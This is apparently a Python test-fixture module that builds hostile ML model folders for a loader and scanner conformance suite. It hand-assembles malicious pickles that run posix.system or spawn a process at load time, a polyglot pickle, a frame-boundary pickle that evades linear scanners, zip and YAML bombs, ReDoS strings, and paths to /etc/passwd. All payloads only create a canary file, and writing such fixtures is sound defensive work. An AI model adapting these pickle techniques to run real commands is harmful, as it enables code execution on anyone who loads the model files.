"""Hostile model folders for tests and the demo.

Everything here only writes bytes. The malicious pickles are assembled opcode by opcode, so building
them runs nothing; they act only if someone unpickles them, which the suite must never do.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path
from typing import Any, Literal

from .models import build_llama

BadSafetensorsKind = Literal["valid", "huge_header_length", "overlapping_offsets", "truncated", "non_json_header"]
CorruptConfigKind = Literal["missing", "corrupt", "wrong_type"]

EVIL_MODULE_SOURCE = '''"""conformance zoo: remote code that must never be imported or run."""

raise RuntimeError("conformance zoo: modeling_evil.py was imported; trust_remote_code must stay off")
'''


def _tiny_llama(out_dir: Path, **options: Any) -> Path:
    """The smallest llama the zoo builds: its weights are valid but beside the point of a hostile folder."""
    return build_llama(
        out_dir,
        hidden_size=16,
        num_layers=1,
        num_heads=2,
        num_kv_heads=1,
        intermediate_size=32,
        card=False,
        **options,
    )


def _unicode(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE


def malicious_pickle(canary: Path) -> bytes:
    """A pickled dict {"weight": builtins.open(canary, "w")}: unpickling it creates ``canary``.

    Shaped like a state dict so the payload sits where a loader expects tensors.
    """
    return b"".join(
        [
            b"\x80\x02",  # PROTO 2
            b"}",  # EMPTY_DICT
            _unicode("weight"),
            b"cbuiltins\nopen\n",  # GLOBAL builtins.open
            _unicode(str(canary)),
            _unicode("w"),
            b"\x86",  # TUPLE2
            b"R",  # REDUCE: the call happens here, at load time
            b"s",  # SETITEM
            b".",  # STOP
        ]
    )


def _torch_zip_with_pickle(path: Path, payload: bytes) -> None:
    """A real torch.save zip checkpoint whose data.pkl member is swapped for ``payload``."""
    import torch

    buffer = io.BytesIO()
    torch.save({"weight": torch.zeros(2, 2)}, buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, zipfile.ZipFile(path, "w") as target:
        replaced = False
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("data.pkl"):
                data, replaced = payload, True
            target.writestr(info, data)
    if not replaced:
        raise RuntimeError("torch.save wrote no member ending in data.pkl; the zip layout changed")


def build_pickle_bomb(out_dir: Path, canary: Path, name: str = "pytorch_model.bin", zip_format: bool = False) -> Path:
    """config.json of a tiny llama plus weights ``name`` whose unpickling would create ``canary``.

    zip_format=False writes a bare (legacy) pickle; True writes a torch zip checkpoint with a bad data.pkl.
    """
    out_dir = Path(out_dir)
    _tiny_llama(out_dir)
    for weights in out_dir.glob("*.safetensors"):
        weights.unlink()  # the bomb must be the only weights a loader can find
    payload = malicious_pickle(Path(canary))
    if zip_format:
        _torch_zip_with_pickle(out_dir / name, payload)
    else:
        (out_dir / name).write_bytes(payload)
    return out_dir


def build_remote_code_model(out_dir: Path) -> Path:
    """Valid safetensors weights whose config.json asks for remote code (modeling_evil.py) via auto_map."""
    out_dir = Path(out_dir)
    _tiny_llama(out_dir)
    config_path = out_dir / "config.json"
    config = json.loads(config_path.read_text())
    config["architectures"] = ["EvilModel"]
    config["auto_map"] = {
        "AutoConfig": "modeling_evil.EvilConfig",
        "AutoModelForCausalLM": "modeling_evil.EvilModel",
    }
    config_path.write_text(json.dumps(config, indent=2) + "\n")
    (out_dir / "modeling_evil.py").write_text(EVIL_MODULE_SOURCE)
    return out_dir


def _safetensors_bytes(header: dict[str, Any], data: bytes) -> bytes:
    encoded = json.dumps(header, separators=(",", ":")).encode()
    encoded += b" " * (-len(encoded) % 8)  # the writer pads the header to 8 bytes so tensor data aligns
    return struct.pack("<Q", len(encoded)) + encoded + data


def write_bad_safetensors(path: Path, kind: BadSafetensorsKind) -> Path:
    """A hand-built safetensors file broken in one way (``kind``); "valid" is the unbroken control.

    Layout: u64 little-endian header length N, N bytes of JSON header, then the tensor data buffer.
    """
    path = Path(path)
    metadata = {"__metadata__": {"format": "pt"}}
    four_floats = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    if kind == "valid":
        header = {**metadata, "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
        content = _safetensors_bytes(header, four_floats)
    elif kind == "huge_header_length":
        content = struct.pack("<Q", 2**60) + b'{"__metadata__":{}}'
    elif kind == "overlapping_offsets":
        header = {
            **metadata,
            "a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 12]},
            "b": {"dtype": "F32", "shape": [3], "data_offsets": [4, 16]},
        }
        content = _safetensors_bytes(header, four_floats)
    elif kind == "truncated":
        header = {**metadata, "a": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}}
        content = _safetensors_bytes(header, four_floats)  # 16 of the 64 promised bytes
    elif kind == "non_json_header":
        junk = b"<header>not json</header>"  # valid UTF-8, so it is the JSON parser that must refuse it
        content = struct.pack("<Q", len(junk)) + junk + four_floats
    else:
        raise ValueError(f"unknown bad safetensors kind {kind!r}")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path


def build_corrupt_config(out_dir: Path, kind: CorruptConfigKind) -> Path:
    """A tiny llama with valid weights and a missing, unparsable or non-object config.json."""
    if kind not in ("missing", "corrupt", "wrong_type"):
        raise ValueError(f"unknown corrupt config kind {kind!r}")
    out_dir = Path(out_dir)
    _tiny_llama(out_dir)
    config_path = out_dir / "config.json"
    if kind == "missing":
        config_path.unlink()
    elif kind == "corrupt":
        config_path.write_text('{"model_type": "llama", "hidden_size": 16,,, ')
    else:
        config_path.write_text(json.dumps([{"model_type": "llama"}]) + "\n")
    return out_dir


# --------------------------------------------------------------------------------------------------
# The hostile example folders: each is a tiny llama with a card, plus one hostile file. Builders take
# ``base``, a folder from `build_hostile_base`, to copy instead of building the model again (seconds).
# Every malicious pickle below only tries to create its ``canary`` file.
# --------------------------------------------------------------------------------------------------

PolyglotPlacement = Literal["pytorch_model.bin", "torch_zip", "training_args.bin"]
NpyObjectDescr = Literal["object", "structured"]
OutsideIndexTarget = Literal["sibling", "etc-passwd"]
OutsideLinkName = Literal["model.safetensors", "tokenizer.json", "generation_config.json"]
FifoName = Literal["model.safetensors", "vocab.txt", "extra.bin"]
NonFiniteCard = Literal["score-inf", "parameters-nan"]
NonFiniteConfig = Literal["nan-layers", "inf-context"]
DeepJsonFile = Literal["header", "config", "tokenizer"]
DeepValueFile = Literal["config", "card"]

# The outside-the-folder examples put their targets here, relative to the model folder's parent.
OUTSIDE_DIR = "outside"
# A protocol-0 pickle has no PROTO opcode; this byte after its REDUCE is no opcode at all.
_GARBAGE_OPCODE = b"\xff"
_ZIP_CHUNK = 1 << 20  # bytes of zeros deflated once and repeated, so a GiB member never exists in memory


def build_hostile_base(out_dir: Path) -> Path:
    """Build the folder every hostile example starts from in `out_dir`; returns `out_dir`.

    `_tiny_llama` plus a card with every section, license apache-2.0 and the sha256 checksum of
    model.safetensors. Takes seconds (torch, a tokenizer).
    """
    from .models import write_card

    out_dir = Path(out_dir)
    _tiny_llama(out_dir)
    write_card(out_dir)
    return out_dir


def _start(out_dir: Path, base: Path | None) -> Path:
    out_dir = Path(out_dir)
    if base is None:
        return build_hostile_base(out_dir)
    import shutil

    shutil.copytree(base, out_dir, symlinks=True)
    return out_dir


def _short_unicode(data: bytes) -> bytes:
    return b"\x8c" + struct.pack("<B", len(data)) + data  # SHORT_BINUNICODE


def _system_touch(canary: Path) -> bytes:
    """GLOBAL posix.system, the command ``touch canary``, TUPLE1, REDUCE: at load time a shell creates ``canary``."""
    return b"cposix\nsystem\n" + _unicode(f"touch '{canary}'") + b"\x85R"


def polyglot_pickle(canary: Path, state: bytes = b"}.") -> bytes:
    """A pickle whose first 9 bytes also read as a safetensors prefix: header length 67,468 and then ``{``.

    Layout: SHORT_BINUNICODE of the 7 bytes ``01 00 00 00 00 00 7b`` (bytes 0-7 are then the little-endian
    u64 0x1078c = 67,468, byte 8 is ``{``), POP, a 70,000-byte string so that length fits in the file, POP,
    then ``posix.system("touch canary")``, POP, and ``state`` (default: an empty dict and STOP).
    """
    return b"".join(
        [
            _short_unicode(b"\x01\x00\x00\x00\x00\x00\x7b"),
            b"0",  # POP
            _unicode("x" * 70_000),
            b"0",
            _system_touch(Path(canary)),
            b"0",
            state,
        ]
    )


def build_polyglot_pickle(out_dir: Path, canary: Path, placement: PolyglotPlacement, base: Path | None = None) -> Path:
    """A folder holding `polyglot_pickle` where `placement` says; returns `out_dir`.

    As pytorch_model.bin (the only weights), as the data.pkl member of a real torch zip checkpoint
    pytorch_model.bin (the member keeps torch's own state dict after the payload), or as training_args.bin
    beside the intact safetensors weights.
    """
    out_dir = _start(out_dir, base)
    if placement == "training_args.bin":
        (out_dir / "training_args.bin").write_bytes(polyglot_pickle(canary))
        return out_dir
    (out_dir / "model.safetensors").unlink()  # the polyglot must be the only weights a loader can find
    if placement == "pytorch_model.bin":
        (out_dir / "pytorch_model.bin").write_bytes(polyglot_pickle(canary))
    elif placement == "torch_zip":
        import torch

        buffer = io.BytesIO()
        torch.save({"weight": torch.zeros(2, 2)}, buffer)
        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source:
            member = next(name for name in source.namelist() if name.endswith("data.pkl"))
            state = source.read(member)
        _torch_zip_with_pickle(out_dir / "pytorch_model.bin", polyglot_pickle(canary, state=state))
    else:
        raise ValueError(f"unknown polyglot placement {placement!r}")
    return out_dir


def object_npy(canary: Path, descr: NpyObjectDescr) -> bytes:
    """An .npy file whose header names an object dtype without ``'|O'`` and whose data is `malicious_pickle`.

    descr "object" writes ``'descr': 'object'``; "structured" writes ``'descr': [('a', 'object')]``.
    numpy's reader takes both as object dtypes and unpickles the data (np.load(allow_pickle=True)).
    Header layout (NEP 1, format 1.0): magic, version, u16 header length, a dict literal padded with
    spaces and ending in a newline so the data starts at a multiple of 64 bytes.
    """
    literal = {"object": "'object'", "structured": "[('a', 'object')]"}[descr]
    header = f"{{'descr': {literal}, 'fortran_order': False, 'shape': (1,), }}"
    preamble = 10  # magic (6) + version (2) + header length (2)
    header += " " * (-(preamble + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + malicious_pickle(Path(canary))


def build_npy_object(out_dir: Path, canary: Path, descr: NpyObjectDescr, base: Path | None = None) -> Path:
    """The model folder plus ``embeddings.npy`` from `object_npy`."""
    out_dir = _start(out_dir, base)
    (out_dir / "embeddings.npy").write_bytes(object_npy(canary, descr))
    return out_dir


def build_compressed_joblib(out_dir: Path, canary: Path, base: Path | None = None) -> Path:
    """The model folder plus ``preprocessor.dat``, `malicious_pickle` zlib-compressed at level 3; returns `out_dir`.

    It is the file ``joblib.dump(obj, "preprocessor.dat", compress=3)`` writes (joblib's zlib files are a
    bare zlib stream; ``joblib.load`` finds the compressor from the leading 0x78 byte and unpickles).
    """
    import zlib

    out_dir = _start(out_dir, base)
    (out_dir / "preprocessor.dat").write_bytes(zlib.compress(malicious_pickle(Path(canary)), 3))
    return out_dir


def protocol0_pickle(canary: Path) -> bytes:
    """A text (protocol 0) pickle with no PROTO and no STOP that creates `canary` when unpickled.

    ``multiprocessing.util.spawnv_passfds(_codecs.encode("/usr/bin/touch", "latin1"), ["touch", canary], ())``,
    REDUCE, then a byte that is no opcode. The unpickler runs the REDUCE (creating ``canary``) before it
    fails on that byte.
    """
    return b"".join(
        [
            b"cmultiprocessing.util\nspawnv_passfds\n",
            b"(c_codecs\nencode\n(V/usr/bin/touch\nVlatin1\ntR",  # the program path must be bytes: encode it
            b"(Vtouch\nV" + str(canary).encode("raw_unicode_escape") + b"\nl",
            b"(t",  # passfds: an empty tuple
            b"tR",
            _GARBAGE_OPCODE,
        ]
    )


def build_protocol0_pickle(out_dir: Path, canary: Path, base: Path | None = None) -> Path:
    """The model folder plus ``weights.dat`` from `protocol0_pickle`."""
    out_dir = _start(out_dir, base)
    (out_dir / "weights.dat").write_bytes(protocol0_pickle(canary))
    return out_dir


def _split_weights(out_dir: Path) -> list[Path]:
    """Replace model.safetensors by two shards and model.safetensors.index.json, as save_pretrained shards."""
    from safetensors.numpy import load_file, save_file

    tensors = load_file(out_dir / "model.safetensors")
    names = sorted(tensors)
    halves = [names[: len(names) // 2], names[len(names) // 2 :]]
    shards = [out_dir / f"model-0000{i + 1}-of-00002.safetensors" for i in range(2)]
    weight_map = {}
    for shard, half in zip(shards, halves, strict=True):
        save_file({name: tensors[name] for name in half}, shard, metadata={"format": "pt"})
        weight_map.update(dict.fromkeys(half, shard.name))
    total = sum(t.nbytes for t in tensors.values())
    index = {"metadata": {"total_size": total}, "weight_map": weight_map}
    (out_dir / "model.safetensors.index.json").write_text(json.dumps(index, indent=2) + "\n")
    (out_dir / "model.safetensors").unlink()
    return shards


def build_index_outside(out_dir: Path, target: OutsideIndexTarget, base: Path | None = None) -> Path:
    """Sharded weights whose index maps the second shard's tensors outside the folder.

    "sibling": the real second shard is moved to ``out_dir/../../outside/shard2.safetensors`` and named so
    (loading it would succeed on weights outside the folder); "etc-passwd": the entries name /etc/passwd.
    """
    out_dir = _start(out_dir, base)
    shards = _split_weights(out_dir)
    if target == "sibling":
        outside = out_dir.parent.parent / OUTSIDE_DIR / "shard2.safetensors"
        outside.parent.mkdir(parents=True, exist_ok=True)
        shards[1].rename(outside)
        name = f"../../{OUTSIDE_DIR}/shard2.safetensors"
    elif target == "etc-passwd":
        shards[1].unlink()
        name = "/etc/passwd"
    else:
        raise ValueError(f"unknown index target {target!r}")
    index_path = out_dir / "model.safetensors.index.json"
    index = json.loads(index_path.read_text())
    index["weight_map"] = {tensor: (name if file == shards[1].name else file) for tensor, file in index["weight_map"].items()}
    index_path.write_text(json.dumps(index, indent=2) + "\n")
    return out_dir


def outside_link_target(out_dir: Path, name: OutsideLinkName) -> Path:
    """Where `build_symlink_outside` moves the real ``name``: ``out_dir/../outside/<name>``."""
    return Path(out_dir).parent / OUTSIDE_DIR / name


def build_symlink_outside(out_dir: Path, name: OutsideLinkName, base: Path | None = None) -> Path:
    """The real ``name`` moved to `outside_link_target` and ``name`` made a symlink to it (absolute)."""
    out_dir = _start(out_dir, base)
    target = outside_link_target(out_dir, name)
    target.parent.mkdir(parents=True, exist_ok=True)
    (out_dir / name).rename(target)
    (out_dir / name).symlink_to(target.resolve())
    return out_dir


def build_fifo(out_dir: Path, name: FifoName, base: Path | None = None) -> Path:
    """``name`` replaced by (or added as) a FIFO that no one ever writes: a blocking open or read waits forever."""
    import os

    out_dir = _start(out_dir, base)
    (out_dir / name).unlink(missing_ok=True)
    os.mkfifo(out_dir / name)
    return out_dir


def _rewrite_card(out_dir: Path, front_lines: str = "", body_lines: str = "") -> None:
    """Insert ``front_lines`` at the top of README.md's front matter and append ``body_lines`` to its body."""
    card = out_dir / "README.md"
    text = card.read_text(encoding="utf-8")
    if not text.startswith("---\n"):
        raise RuntimeError("README.md has no front matter to extend")
    card.write_text("---\n" + front_lines + text[4:] + body_lines, encoding="utf-8")


def alias_bomb_yaml(key: str = "lol", levels: int = 10, width: int = 9) -> str:
    """YAML of about 600 bytes (10 levels, 9 wide) whose ``key`` expands to width**levels (3.5e9) scalars.

    Each anchored list holds ``width`` aliases of the previous one ("billion laughs").
    """
    lines = [f"{key}0: &{key}0 [{', '.join(['lol'] * width)}]"]
    for level in range(1, levels):
        lines.append(f"{key}{level}: &{key}{level} [{', '.join([f'*{key}{level - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


def build_card_alias_bomb(out_dir: Path, base: Path | None = None) -> Path:
    """A card whose front matter holds `alias_bomb_yaml`, before its usual keys."""
    out_dir = _start(out_dir, base)
    _rewrite_card(out_dir, front_lines=alias_bomb_yaml())
    return out_dir


def build_card_heading_spaces(out_dir: Path, spaces: int = 20_000, base: Path | None = None) -> Path:
    """A card body line ``"# a" + spaces + "b"``: a backtracking heading regex takes cubic time on it."""
    out_dir = _start(out_dir, base)
    _rewrite_card(out_dir, body_lines="\n# a" + " " * spaces + "b\n")
    return out_dir


def build_card_license(out_dir: Path, license_id: str, base: Path | None = None) -> Path:
    """The card's license replaced by ``license_id`` (e.g. 60 ``a`` and ``!`` against ``^(a|aa)+$``)."""
    out_dir = _start(out_dir, base)
    card = out_dir / "README.md"
    text = card.read_text(encoding="utf-8")
    card.write_text(text.replace("license: apache-2.0\n", f"license: {json.dumps(license_id)}\n", 1), encoding="utf-8")
    return out_dir


def build_opcode_flood(
    out_dir: Path, canary: Path, files: int = 12, pairs: int = 5_000_000, base: Path | None = None
) -> Path:
    """``files`` pickles ``rng_state_<i>.pth`` of ``pairs`` NONE/POP opcode pairs each; returns `out_dir`.

    2 bytes a pair, so 10 MB each at the default, streamed to disk. The last one ends with
    `malicious_pickle` instead of an empty dict: a scan that stops early must say so, and one that
    finishes must find it.
    """
    out_dir = _start(out_dir, base)
    chunk = b"N0" * 500_000
    for i in range(files):
        with open(out_dir / f"rng_state_{i}.pth", "wb") as stream:
            stream.write(b"\x80\x02")
            for _ in range(pairs // 500_000):
                stream.write(chunk)
            stream.write(b"N0" * (pairs % 500_000))
            stream.write(malicious_pickle(Path(canary))[2:] if i == files - 1 else b"}.")
    return out_dir


def _zip_entry_header(signature: int, name: bytes, crc: int, compressed: int, size: int, offset: int | None) -> bytes:
    """A zip local (offset None) or central directory header for one deflated member, no extra fields."""
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, crc, compressed, size, len(name), 0)
    if offset is None:
        return struct.pack("<I", signature) + common + name
    return struct.pack("<IH", signature, 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name


def build_zip_bomb(
    out_dir: Path, canary: Path, members: int = 3, member_bytes: int = 1100 * _ZIP_CHUNK, base: Path | None = None
) -> Path:
    """``optimizer.pt``: a zip of ``members`` deflated pickles of ``member_bytes`` each; returns `out_dir`.

    About 1 MiB of zip per GiB, built without ever holding or writing the inflated bytes.

    Each member is PROTO 3, BINBYTES of ``member_bytes`` zeros, POP, then `malicious_pickle`. Its deflate
    stream is three independent pieces, each ended by a full flush (so none refers back into another):
    the opcode prefix, the deflated 1 MiB zero chunk repeated, and the payload with the final block.
    """
    import zlib

    out_dir = _start(out_dir, base)
    zeros = member_bytes - member_bytes % _ZIP_CHUNK
    prefix = b"\x80\x03B" + struct.pack("<I", zeros)
    suffix = b"0" + malicious_pickle(Path(canary))

    def piece(data: bytes, final: bool) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    head, chunk, tail = piece(prefix, False), piece(bytes(_ZIP_CHUNK), False), piece(suffix, True)
    repeats = zeros // _ZIP_CHUNK
    crc = zlib.crc32(prefix)
    zero_chunk = bytes(_ZIP_CHUNK)
    for _ in range(repeats):
        crc = zlib.crc32(zero_chunk, crc)
    crc = zlib.crc32(suffix, crc)
    size = len(prefix) + zeros + len(suffix)
    compressed = len(head) + repeats * len(chunk) + len(tail)
    central = []
    with open(out_dir / "optimizer.pt", "wb") as stream:
        for i in range(members):
            name = f"optimizer/data-{i}.pkl".encode()
            offset = stream.tell()
            stream.write(_zip_entry_header(0x04034B50, name, crc, compressed, size, None))
            stream.write(head)
            for _ in range(repeats):
                stream.write(chunk)
            stream.write(tail)
            central.append(_zip_entry_header(0x02014B50, name, crc, compressed, size, offset))
        start = stream.tell()
        directory = b"".join(central)
        stream.write(directory)
        stream.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(directory), start, 0))
    return out_dir


def build_sparse_weights(out_dir: Path, tensor_bytes: int = 40_000_000_000, base: Path | None = None) -> Path:
    """model.safetensors declaring one F32 tensor of ``tensor_bytes`` bytes, as a sparse file; returns `out_dir`.

    Made by truncating (no disk used), with a card claiming a made-up sha256 for it. Hashing it means
    reading 40 GB at the default size.
    """
    import os

    out_dir = _start(out_dir, base)
    header = {"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [tensor_bytes // 4], "data_offsets": [0, tensor_bytes]}}
    path = out_dir / "model.safetensors"
    path.write_bytes(_safetensors_bytes(header, b""))
    os.truncate(path, path.stat().st_size + tensor_bytes)
    card = out_dir / "README.md"
    text = card.read_text(encoding="utf-8")
    start = text.index("    model.safetensors: ")
    end = text.index("\n", start)
    card.write_text(text[:start] + "    model.safetensors: " + "0" * 64 + text[end:], encoding="utf-8")
    return out_dir


def build_card_nonfinite(out_dir: Path, kind: NonFiniteCard, base: Path | None = None) -> Path:
    """A card with ``score: .inf`` (a top-level key) or ``parameters: .nan`` (the conformance claim)."""
    out_dir = _start(out_dir, base)
    card = out_dir / "README.md"
    text = card.read_text(encoding="utf-8")
    if kind == "score-inf":
        _rewrite_card(out_dir, front_lines="score: .inf\n")
    elif kind == "parameters-nan":
        start = text.index("  parameters: ")
        card.write_text(text[:start] + "  parameters: .nan" + text[text.index("\n", start) :], encoding="utf-8")
    else:
        raise ValueError(f"unknown non-finite card kind {kind!r}")
    return out_dir


def _edit_json_text(path: Path, edit: Any) -> None:
    """Rewrite a JSON file as ``edit(parsed)`` with NaN and infinities written as JSON5-style literals."""
    path.write_text(json.dumps(edit(json.loads(path.read_text())), indent=2, allow_nan=True) + "\n")


def build_config_nonfinite(out_dir: Path, kind: NonFiniteConfig, base: Path | None = None) -> Path:
    """config.json with ``"num_hidden_layers": NaN`` or ``"max_position_embeddings": Infinity``."""
    out_dir = _start(out_dir, base)
    key, value = {"nan-layers": ("num_hidden_layers", float("nan")), "inf-context": ("max_position_embeddings", float("inf"))}[kind]
    _edit_json_text(out_dir / "config.json", lambda config: {**config, key: value})
    return out_dir


def _nested_lists(depth: int) -> str:
    return "[" * depth + "]" * depth


def build_deep_value(out_dir: Path, where: DeepValueFile, depth: int = 900, base: Path | None = None) -> Path:
    """A value nested ``depth`` lists deep: key ``nested`` of config.json, or of the card's front matter."""
    out_dir = _start(out_dir, base)
    if where == "config":
        config = out_dir / "config.json"
        text = config.read_text()
        config.write_text('{"nested": ' + _nested_lists(depth) + ", " + text.lstrip()[1:])
    elif where == "card":
        _rewrite_card(out_dir, front_lines="nested: " + _nested_lists(depth) + "\n")
    else:
        raise ValueError(f"unknown deep value file {where!r}")
    return out_dir


def build_dtype_list(out_dir: Path, base: Path | None = None) -> Path:
    """model.safetensors whose first tensor's dtype is the JSON list ``["F32"]`` (same length header)."""
    out_dir = _start(out_dir, base)
    path = out_dir / "model.safetensors"
    data = path.read_bytes()
    (length,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8 : 8 + length])
    first = next(name for name in header if name != "__metadata__")
    header[first]["dtype"] = [header[first]["dtype"]]
    path.write_bytes(_safetensors_bytes(header, data[8 + length :]))
    return out_dir


def build_deep_json(out_dir: Path, where: DeepJsonFile, depth: int = 100_000, base: Path | None = None) -> Path:
    """A key ``deep`` holding lists nested ``depth`` deep, added to the file `where` names; returns `out_dir`.

    The file is the safetensors header (tensors kept), config.json or tokenizer.json.
    """
    out_dir = _start(out_dir, base)
    deep = '{"deep": ' + _nested_lists(depth) + ", "
    if where == "header":
        path = out_dir / "model.safetensors"
        data = path.read_bytes()
        (length,) = struct.unpack("<Q", data[:8])
        header = (deep + data[8 : 8 + length].decode().strip()[1:]).encode()
        header += b" " * (-len(header) % 8)
        path.write_bytes(struct.pack("<Q", len(header)) + header + data[8 + length :])
    elif where in ("config", "tokenizer"):
        path = out_dir / ("config.json" if where == "config" else "tokenizer.json")
        path.write_text(deep + path.read_text().lstrip()[1:])
    else:
        raise ValueError(f"unknown deep JSON file {where!r}")
    return out_dir


def build_vocab_infinity(out_dir: Path, base: Path | None = None) -> Path:
    """tokenizer.json whose vocabulary gives its highest id as ``Infinity``."""
    out_dir = _start(out_dir, base)

    def edit(tokenizer: dict[str, Any]) -> dict[str, Any]:
        vocab = tokenizer["model"]["vocab"]
        vocab[max(vocab, key=vocab.__getitem__)] = float("inf")
        return tokenizer

    _edit_json_text(out_dir / "tokenizer.json", edit)
    return out_dir


def build_symlink_loop(out_dir: Path, base: Path | None = None) -> Path:
    """Two symlinks naming each other, ``loop-a.json`` and ``loop-b.json``: resolving either never ends."""
    out_dir = _start(out_dir, base)
    (out_dir / "loop-a.json").symlink_to("loop-b.json")
    (out_dir / "loop-b.json").symlink_to("loop-a.json")
    return out_dir


def build_tokenizer_auto_map(out_dir: Path, base: Path | None = None) -> Path:
    """tokenizer_config.json whose auto_map names remote code: ``evil/repo--tokenization_evil.EvilTokenizer``."""
    out_dir = _start(out_dir, base)
    auto_map = {"AutoTokenizer": ["evil/repo--tokenization_evil.EvilTokenizer", None]}
    _edit_json_text(out_dir / "tokenizer_config.json", lambda config: {**config, "auto_map": auto_map})
    return out_dir


def build_custom_pipelines(out_dir: Path, base: Path | None = None) -> Path:
    """config.json whose custom_pipelines names remote code: ``evil/repo--pipe.EvilPipeline``."""
    out_dir = _start(out_dir, base)
    pipelines = {"text-generation": {"impl": "evil/repo--pipe.EvilPipeline", "pt": ["AutoModelForCausalLM"], "tf": []}}
    _edit_json_text(out_dir / "config.json", lambda config: {**config, "custom_pipelines": pipelines})
    return out_dir


def frame_boundary_pickle(canary: Path) -> bytes:
    """A protocol-5 pickle whose 2-byte FRAME splits a BINBYTES opcode (fickling's frame-boundary case).

    Read linearly (pickletools, the pure-Python unpickler, most scanners) the BINBYTES takes 0x107 bytes
    and swallows ``posix.system("touch canary")``, REDUCE. CPython's C unpickler reading a file cannot serve
    the 4-byte length from the 2-byte frame, reads it from after the frame instead (01 00 00 00: one byte),
    and then runs the hidden call. The leading 128 KiB string pushes the frame past the C unpickler's
    read-ahead, so a buffered file reads like an unbuffered one.
    """
    hidden = _system_touch(Path(canary)) + b"("  # MARK: the rest of the 0x107 bytes is popped by POP_MARK
    if len(hidden) > 261:
        raise ValueError(f"canary path too long for the 261-byte hidden call: {canary}")
    return b"".join(
        [
            b"\x80\x05",  # PROTO 5
            b"N",  # NONE
            b"V" + b"a" * (8192 * 16 - 17) + b"\n",  # UNICODE, 128 KiB
            b"0",  # POP
            b"(",  # MARK
            b"\x95" + struct.pack("<Q", 2),  # FRAME of 2 bytes: 'B' and the first length byte
            b"B\x07\x01\x00\x00",  # BINBYTES: 0x107 bytes read linearly; 1 byte (00) by the C unpickler
            b"\x00\x00",
            hidden.ljust(261, b"N"),
            b"1",  # POP_MARK
            b".",  # STOP
        ]
    )


def build_frame_boundary(out_dir: Path, canary: Path, base: Path | None = None) -> Path:
    """The model folder plus ``scheduler.pt`` from `frame_boundary_pickle`."""
    out_dir = _start(out_dir, base)
    (out_dir / "scheduler.pt").write_bytes(frame_boundary_pickle(canary))
    return out_dir
